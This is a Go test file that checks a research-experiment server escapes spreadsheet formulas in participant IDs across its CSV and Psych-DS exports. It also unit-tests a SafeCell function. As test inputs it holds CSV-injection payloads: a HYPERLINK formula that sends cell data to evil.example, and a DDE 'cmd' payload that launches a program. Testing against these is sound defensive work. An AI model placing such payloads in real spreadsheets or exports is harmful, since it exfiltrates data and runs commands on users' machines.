package server_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/mccollough/mccollough/storage"
)

// csvCells are every cell of a CSV, by column name.
func csvCells(t *testing.T, data []byte) map[string][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]string{}
	for _, row := range rows[1:] {
		for i, cell := range row {
			out[rows[0][i]] = append(out[rows[0][i]], cell)
		}
	}
	return out
}

// TestExportsNeutraliseSpreadsheetFormulas: a participant id that is a
// formula reaches every CSV (trials, sessions, summary, the Psych-DS zip) as text a
// spreadsheet shows rather than runs; numbers, negative ones too, stay
// numbers.
func TestExportsNeutraliseSpreadsheetFormulas(t *testing.T) {
	ts := newTestServer(t)
	token := ts.ownedStudy("short")
	ids := map[string]string{ // as given → as exported
		`=HYPERLINK("http://evil.example/?"&A2,"Click")`: `'=HYPERLINK("http://evil.example/?"&A2,"Click")`,
		"@SUM(A1:A9)":          "'@SUM(A1:A9)",
		"-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0",
		"+15":                  "+15", // a number
		"p-ordinary":           "p-ordinary",
	}
	for id := range ids {
		s := ts.startSession("short", map[string]any{"params": map[string]string{"PROLIFIC_PID": id}})
		for i := range s.Plan.Trials {
			ts.put(s, i, answer("red", ts.tint(s, i)))
		}
	}
	check := func(what string, cells map[string][]string, idColumn string) {
		t.Helper()
		seen := map[string]bool{}
		for _, got := range cells[idColumn] {
			seen[got] = true
		}
		for id, want := range ids {
			if !seen[want] {
				t.Errorf("%s: %q is not exported as %q (%s: %q)", what, id, want, idColumn, cells[idColumn])
			}
		}
		for _, tint := range cells["tint"] {
			if strings.HasPrefix(tint, "'") {
				t.Errorf("%s: the number %q became text", what, tint)
			}
		}
	}
	get := func(path string) []byte {
		rec := ts.do(http.MethodGet, "/api/v1/experiments/short/"+path, nil, auth(token)...)
		wantStatus(t, rec, http.StatusOK)
		return rec.Body.Bytes()
	}
	trials := csvCells(t, get("export.csv"))
	check("export.csv", trials, "participant_id")
	if !containsCell(trials["tint"], "-4") {
		t.Errorf("export.csv: no negative tint left as a number: %q", trials["tint"])
	}
	check("summary.csv", csvCells(t, get("summary.csv")), "participant_ref")
	check("sessions.csv", csvCells(t, get("sessions.csv")), "participant_id")

	z, err := zip.NewReader(bytes.NewReader(get("dataset.zip")), int64(len(get("dataset.zip"))))
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	for _, f := range z.File {
		if !strings.HasSuffix(f.Name, ".csv") || strings.Contains(f.Name, "/documentation/") {
			continue
		}
		r, _ := f.Open()
		data, _ := io.ReadAll(r)
		cells := csvCells(t, data)
		column := "participant_id"
		if _, ok := cells[column]; !ok {
			column = "participant_ref"
		}
		check(f.Name, cells, column)
		checked++
	}
	if checked < 2 {
		t.Fatalf("the dataset holds %d data CSVs", checked)
	}
}

func containsCell(cells []string, want string) bool {
	for _, c := range cells {
		if c == want {
			return true
		}
	}
	return false
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "red": "red", "=1+1": "'=1+1", "+1": "+1", "-2.5e3": "-2.5e3", "-": "'-", "- 1": "'- 1",
		"@x": "'@x", "\t=1": "'\t=1", "\r=1": "'\r=1", "1=1": "1=1", "+.5": "+.5", "-1+1": "'-1+1",
	} {
		if got := storage.SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
